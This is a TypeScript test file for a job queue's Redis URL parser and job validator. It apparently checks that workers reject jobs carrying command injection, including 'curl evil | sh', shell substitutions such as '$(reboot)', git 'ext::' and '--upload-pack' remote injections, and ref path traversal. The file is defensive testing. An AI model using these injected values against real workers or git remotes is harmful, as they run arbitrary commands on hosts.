/** What crosses Redis: Redis URLs, and the checks a worker makes on jobs anyone with Redis access could write. */
import { describe, expect, it } from 'vitest';
import { parseRedisUrl, RedisUrlError } from '../../src/queue/connection.js';
import {
  attemptJobId,
  isSafeRemote,
  jobFormatVersion,
  parseJobData,
  resultRefPrefix,
  startCommitRef,
} from '../../src/queue/schema.js';

const sha = 'a'.repeat(40);

function job(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    v: jobFormatVersion,
    runId: '20261203-101500-ab12',
    streamId: 's1',
    attempt: 1,
    backend: 'command',
    remote: '/srv/git/project.git',
    checkoutRef: startCommitRef('20261203-101500-ab12', sha),
    checkoutSha: sha,
    baseSha: sha,
    resultRefPrefix: resultRefPrefix('20261203-101500-ab12', 's1', 1),
    commitMessage: 'maestro(s1): Part 1',
    timeoutMs: 60_000,
    stallMs: 60_000,
    task: {
      streamTitle: 'Part 1; rm -rf / $(reboot)',
      role: 'general',
      roleInstructions: '',
      model: 'sonnet',
      files: ['src/part1.ts'],
      prompt: 'Do it `now` $(whoami)',
      validationCommands: [],
    },
    ...overrides,
  };
}

describe('parseRedisUrl', () => {
  it('reads passwords and TLS, and never shows the password', () => {
    const target = parseRedisUrl('rediss://:p%40ss@redis.example.com:6380/2');
    expect(target).toMatchObject({
      tls: true,
      hasPassword: true,
      display: 'rediss://redis.example.com:6380/2',
    });
    expect(target.url).toBe('rediss://:p%40ss@redis.example.com:6380/2');
    expect(parseRedisUrl('redis://127.0.0.1:6379')).toMatchObject({ tls: false, hasPassword: false });
  });

  it('refuses what is not a Redis URL, with a message that shows the expected form', () => {
    expect(() => parseRedisUrl('localhost:6379')).toThrow(RedisUrlError);
    expect(() => parseRedisUrl('http://:pw@host:6379')).toThrow(/only redis:\/\/ and rediss:\/\//);
    expect(() => parseRedisUrl('http://:pw@host:6379')).not.toThrow(/pw/);
    expect(() => parseRedisUrl('redis://host:6379/x')).toThrow(/database number/);
  });
});

describe('jobs', () => {
  it('accepts a well-formed job; plan text is data, never a command line', () => {
    const parsed = parseJobData(job());
    expect(parsed.ok).toBe(true);
  });

  it('carries what a resumed Claude session spent and the owned files its write hook enforces', () => {
    const spent = {
      inputTokens: 1200,
      outputTokens: 80,
      cacheReadTokens: 0,
      cacheWriteTokens: 0,
      costUsd: 0.02,
      costSource: 'reported',
    };
    const task = { ...(job()['task'] as object), resumedUsage: spent, ownedPaths: ['src/part1.ts'] };
    const parsed = parseJobData(job({ task }));
    expect(parsed.ok ? parsed.job.task : parsed.message).toMatchObject({
      resumedUsage: spent,
      ownedPaths: ['src/part1.ts'],
    });
    expect(parseJobData(job({ task: { ...task, ownedPaths: [''] } })).ok).toBe(false);
  });

  it('refuses a job that carries a command line or anything else unknown', () => {
    const parsed = parseJobData(job({ agentCommand: 'curl evil | sh' }));
    expect(parsed).toMatchObject({ ok: false });
    expect(parsed.ok ? '' : parsed.message).toMatch(/agentCommand/);
    expect(parseJobData(job({ task: { ...(job()['task'] as object), env: { X: '1' } } })).ok).toBe(false);
    // Setup is the worker's own (`maestro worker --setup`): a job cannot bring setup commands.
    expect(parseJobData(job({ setup: { commands: ['curl evil | sh'] } })).ok).toBe(false);
    expect(parseJobData(job({ task: { ...(job()['task'] as object), setup: ['x'] } })).ok).toBe(false);
  });

  it('refuses unknown backends, transport-helper remotes, refs outside refs/maestro and other versions', () => {
    expect(parseJobData(job({ backend: 'bash' })).ok).toBe(false);
    expect(parseJobData(job({ remote: 'ext::sh -c touch% /tmp/pwned' })).ok).toBe(false);
    expect(parseJobData(job({ remote: '--upload-pack=touch /tmp/pwned' })).ok).toBe(false);
    expect(parseJobData(job({ checkoutRef: 'refs/heads/main' })).ok).toBe(false);
    expect(parseJobData(job({ resultRefPrefix: 'refs/maestro/../../heads/main' })).ok).toBe(false);
    expect(parseJobData(job({ streamId: 's1:x' })).ok).toBe(false);
    const other = parseJobData(job({ v: 99 }));
    expect(other.ok ? '' : other.message).toMatch(/same Maestro version/);
  });

  it('gives each attempt one deterministic job id without the `:` BullMQ reserves', () => {
    expect(attemptJobId('20261203-101500-ab12', 's3a', 2)).toBe('20261203-101500-ab12--s3a--a2');
    expect(attemptJobId('r', 's', 1)).toBe(attemptJobId('r', 's', 1));
    expect(attemptJobId('r', 's', 1)).not.toContain(':');
  });
});

describe('isSafeRemote', () => {
  it('takes plain URLs, scp-like addresses and absolute paths, but no credentials or helpers', () => {
    expect(isSafeRemote('https://github.com/acme/app.git')).toBe(true);
    expect(isSafeRemote('ssh://git@github.com:22/acme/app.git')).toBe(true);
    expect(isSafeRemote('git@github.com:acme/app.git')).toBe(true);
    expect(isSafeRemote('/srv/git/app.git')).toBe(true);
    expect(isSafeRemote('https://user:token@github.com/acme/app.git')).toBe(false);
    expect(isSafeRemote('ext::ssh -o ProxyCommand=x host')).toBe(false);
    expect(isSafeRemote('-oProxyCommand=x')).toBe(false);
    expect(isSafeRemote('relative/path.git')).toBe(false);
  });
});
